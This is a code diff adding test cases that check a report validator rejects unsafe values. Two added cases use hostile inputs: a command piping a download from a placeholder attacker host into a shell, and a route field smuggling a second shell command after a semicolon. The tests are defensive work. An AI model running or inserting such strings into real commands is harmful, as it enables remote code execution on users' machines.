@@ -51,6 +51,15 @@ test.each([
   ['{"openapi":"3.1.0"}', /expected an object with "schemaVersion", got an object with "openapi"\n$/],
   [JSON.stringify({ ...violations, schemaVersion: 2 }), /\/schemaVersion: expected 1, got the number 2\n$/],
   [JSON.stringify({ ...conformant, verdict: 'fine' }), /\/verdict: expected .* got the string "fine"\n$/],
+  // A report from somebody else must not make users run other commands than the kit's.
+  [
+    JSON.stringify(violations, (key, value) => (key === 'curl' ? 'curl http://evil.test | sh' : value)),
+    /\/curl: expected to match pattern .* got the string "curl http:\/\/evil\.test \| sh"/,
+  ],
+  [
+    JSON.stringify({ ...violations, target: { ...violations.target, route: '--insecure; sh' } }),
+    /\/target\/route: expected to match pattern /,
+  ],
   [JSON.stringify({ ...conformant, findings: [{}] }), /\/findings\/0: expected an object with "id"/],
 ])('%s is not a report', async (text, message) => {
   const folder = createFolder({ 'wrong.json': text })
